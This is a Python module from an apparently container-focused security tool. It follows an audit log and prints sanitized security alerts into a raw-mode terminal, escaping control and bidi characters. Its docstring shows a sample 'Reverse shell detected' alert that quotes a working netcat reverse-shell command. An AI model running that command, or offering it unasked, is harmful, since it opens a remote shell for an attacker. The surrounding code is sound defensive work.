"""Security alerts in the user's terminal: tail the audit log, format new events.

`coi shell` and `coi attach` hand the terminal to `incus exec -t` (raw mode); meanwhile
an `AlertWatcher` thread follows `~/.coi/audit/<container>.jsonl` and writes each new
event of severity WARNING or worse in the spec's format, with `\\r\\n` line ends:

    ⚠ SECURITY ALERT [CRITICAL]
    Reverse shell detected

    Process 'nc -e /bin/bash 10.0.0.1 4444' (PID 57 in the container, host 1235) …

    → Action taken: killed
    → Logged to audit: ~/.coi/audit/coi-abc-1.jsonl

Tailing is cheap: an `fstat`/`stat` every `interval` seconds; only new complete lines
are read. The log is rotated by hard link + unlink, so the tail keeps its descriptor on
the old file, drains it, and then follows the new live file from its start.
Everything an event carries that the container controls (command lines, titles) is
made printable first: no escape sequence reaches the terminal.
"""

from __future__ import annotations

import contextlib
import json
import os
import threading
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

from coi.monitor.findings import Severity

INTERVAL = 0.5
MAX_FIELD = 300
_ESCAPED = {"\t": " ", "\n": "\\n", "\r": "\\r"}
# Bidi overrides and isolates: they reorder what the terminal shows.
_BIDI = {*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C}


def printable(text: object, limit: int | None = MAX_FIELD) -> str:
    """`text` with control characters (C0, DEL, C1, bidi controls) escaped, and cut to
    `limit` characters: safe to write to a terminal."""
    out = []
    for ch in str(text):
        code = ord(ch)
        if ch in _ESCAPED:
            out.append(_ESCAPED[ch])
        elif code < 0x20 or 0x7F <= code < 0xA0:
            out.append(f"\\x{code:02x}")
        elif code in _BIDI:
            out.append(f"\\u{code:04x}")
        else:
            out.append(ch)
    result = "".join(out)
    if limit is not None and len(result) > limit:
        return result[:limit - 1] + "…"
    return result


def severity_of(event: dict[str, Any]) -> Severity | None:
    try:
        return Severity.parse(str(event.get("severity", "")))
    except ValueError:
        return None


def shown(event: dict[str, Any], minimum: Severity = Severity.WARNING) -> bool:
    level = severity_of(event)
    return level is not None and level >= minimum


def home_relative(path: Path, home: Path | None = None) -> str:
    """`~/.coi/audit/x.jsonl` when `path` is under the home directory."""
    base = home if home is not None else Path.home()
    try:
        return "~/" + str(path.relative_to(base))
    except ValueError:
        return str(path)


def describe(event: dict[str, Any]) -> str:
    """The alert's description line, from the evidence the detectors write."""
    evidence = event.get("evidence")
    ev: dict[str, Any] = evidence if isinstance(evidence, dict) else {}
    parts = []
    command = ev.get("cmdline") or ev.get("name")
    if command:
        parts.append(f"Process '{printable(command, 160)}'{_pid_text(ev)}")
    reason, pattern = ev.get("reason"), ev.get("pattern")
    if ev.get("dst") is not None:  # a network event
        src = f"{ev.get('src')}:{ev.get('sport')} → " if ev.get("src") else ""
        port = f":{ev['dport']}" if ev.get("dport") is not None else ""
        parts.append(f"{printable(reason or 'connection', 40)}: {printable(ev.get('proto', ''))} "
                     f"{printable(src)}{printable(ev['dst'])}{port}")
    elif isinstance(reason, str) and reason:
        parts.append(printable(reason, 160))
    elif isinstance(pattern, str) and pattern:
        parts.append(f"matches pattern '{printable(pattern, 80)}'")
    socket = ev.get("socket")
    if isinstance(socket, dict) and socket.get("remote"):
        parts.append(f"({printable(socket.get('proto', 'tcp'))} connection to "
                     f"{printable(socket['remote'])})")
    if isinstance(ev.get("path"), str):
        parts.append(f"({printable(ev['path'], 120)})")
    if "read_mb" in ev:
        parts.append(f"{ev['read_mb']} MB read in {ev.get('window_s', '?')} s "
                     f"({ev.get('rate_mb_per_sec', '?')} MB/s; thresholds "
                     f"{ev.get('threshold_mb', '?')} MB, "
                     f"{ev.get('rate_threshold_mb_per_sec', '?')} MB/s)")
    if isinstance(ev.get("problems"), list):
        parts.append("; ".join(printable(p, 100) for p in ev["problems"][:5]))
    if not parts:
        scalars = [(k, v) for k, v in ev.items() if isinstance(v, str | int | float)]
        parts = [", ".join(f"{printable(k, 40)}={printable(v, 80)}" for k, v in scalars[:6])]
    return " ".join(p for p in parts if p)


def _pid_text(ev: dict[str, Any]) -> str:
    pid, ns_pid = ev.get("pid"), ev.get("ns_pid")
    if isinstance(ns_pid, int) and isinstance(pid, int) and ns_pid != pid:
        return f" (PID {ns_pid} in the container, host {pid})"
    return f" (PID {pid})" if isinstance(pid, int) else ""


def alert_lines(event: dict[str, Any], log: str) -> list[str]:
    """The alert for one event, as lines (no line ends). `log`: the audit file as shown."""
    level = (severity_of(event) or Severity.INFO).label.upper()
    title = printable(event.get("title") or event.get("detector") or "security event")
    lines = [f"⚠ SECURITY ALERT [{level}]", title]
    description = describe(event)
    if description:
        lines += ["", description]
    action = printable(event.get("action") or "logged", 40)
    lines += ["", f"→ Action taken: {action}"]
    container = printable(event.get("container") or "", 80)
    if action == "paused" and container:
        lines.append(f"→ The container is paused (frozen). From another terminal: "
                     f"`coi monitor audit {container}` shows why, `coi unfreeze {container}` "
                     "resumes it")
    lines.append(f"→ Logged to audit: {log}")
    return lines


def alert_text(event: dict[str, Any], log: str, *, color: bool = True) -> str:
    """One alert for a terminal in raw mode: starts on a fresh line, `\\r\\n` endings."""
    lines = alert_lines(event, log)
    if color:
        lines[0] = f"\x1b[1;31m{lines[0]}\x1b[0m"
        lines[1] = f"\x1b[1m{lines[1]}\x1b[0m"
    return "\r\n" + "\r\n".join(lines) + "\r\n\r\n"


# -- following the log ---------------------------------------------------------------------


def parse_lines(data: bytes) -> list[dict[str, Any]]:
    events = []
    for raw in data.split(b"\n"):
        if not raw.strip():
            continue
        try:
            record = json.loads(raw)
        except ValueError:
            continue  # a partial line a crashed writer left
        if isinstance(record, dict):
            events.append(record)
    return events


class AuditTail:
    """New complete lines of an audit log. With `from_end`, what is there when the tail
    starts is skipped (only events from now on); a log created later is read whole."""

    def __init__(self, path: Path, from_end: bool = True) -> None:
        self.path = path
        self._fd: int | None = None
        self._ino: tuple[int, int] | None = None
        self._pending = b""
        if from_end:
            self._open(at_end=True)

    def _open(self, at_end: bool) -> bool:
        try:
            fd = os.open(self.path, os.O_RDONLY | os.O_CLOEXEC | os.O_NOFOLLOW)
        except OSError:
            return False
        info = os.fstat(fd)
        self._fd, self._ino, self._pending = fd, (info.st_dev, info.st_ino), b""
        if at_end:
            os.lseek(fd, 0, os.SEEK_END)
        return True

    def _drain(self) -> bytes:
        assert self._fd is not None
        chunks = []
        while True:
            chunk = os.read(self._fd, 1 << 16)
            if not chunk:
                break
            chunks.append(chunk)
        return b"".join(chunks)

    def _complete(self, data: bytes) -> list[dict[str, Any]]:
        data = self._pending + data
        cut = data.rfind(b"\n") + 1
        self._pending = data[cut:]
        return parse_lines(data[:cut])

    def poll(self) -> list[dict[str, Any]]:
        """Events appended since the last poll, oldest first."""
        events: list[dict[str, Any]] = []
        if self._fd is None and not self._open(at_end=False):
            return events
        events += self._complete(self._drain())
        try:
            now = os.stat(self.path)
        except OSError:
            return events  # moved aside, no new live file yet: keep the old one
        if (now.st_dev, now.st_ino) != self._ino:  # rotated: the old file is drained
            self.close()
            if self._open(at_end=False):
                events += self._complete(self._drain())
        return events

    def close(self) -> None:
        if self._fd is not None:
            with contextlib.suppress(OSError):
                os.close(self._fd)
        self._fd = None


class AlertWatcher:
    """A daemon thread that writes alerts for new events while the terminal is in use.
    `seen` keeps every event shown, so the caller can sum up afterwards."""

    def __init__(self, path: Path, write: Callable[[str], None], *,
                 interval: float = INTERVAL, minimum: Severity = Severity.WARNING,
                 log_display: str | None = None, color: bool = True) -> None:
        self.tail = AuditTail(path)
        self.write = write
        self.interval = interval
        self.minimum = minimum
        self.log_display = log_display or home_relative(path)
        self.color = color
        self.seen: list[dict[str, Any]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="coi-alerts", daemon=True)

    def start(self) -> AlertWatcher:
        self._thread.start()
        return self

    def check(self) -> None:
        """One poll: show what is new."""
        for event in self.tail.poll():
            if shown(event, self.minimum):
                self.seen.append(event)
                with contextlib.suppress(OSError, ValueError):
                    self.write(alert_text(event, self.log_display, color=self.color))

    def _run(self) -> None:
        while not self._stop.wait(self.interval):
            with contextlib.suppress(OSError):
                self.check()

    def stop(self) -> None:
        """Stop the thread, after one last poll (an event logged just before the
        terminal ended is still counted in `seen`, not written)."""
        self._stop.set()
        if self._thread.is_alive():
            self._thread.join(timeout=2 * self.interval + 1)
        with contextlib.suppress(OSError):
            self.seen += [e for e in self.tail.poll() if shown(e, self.minimum)]
        self.tail.close()

    def responses(self) -> list[dict[str, Any]]:
        """The events shown whose action paused or killed the container."""
        return [e for e in self.seen if e.get("action") in ("paused", "killed")]


def last_response(events: Iterable[dict[str, Any]]) -> dict[str, Any] | None:
    found = None
    for event in events:
        if event.get("action") in ("paused", "killed"):
            found = event
    return found


def terminal_writer(fd: int = 1) -> Callable[[str], None]:
    """Write text to the terminal's descriptor in one call (never through sys.stdout,
    whose buffer the main thread may be using)."""
    def write(text: str) -> None:
        data = text.encode("utf-8", "replace")
        while data:
            data = data[os.write(fd, data):]

    return write
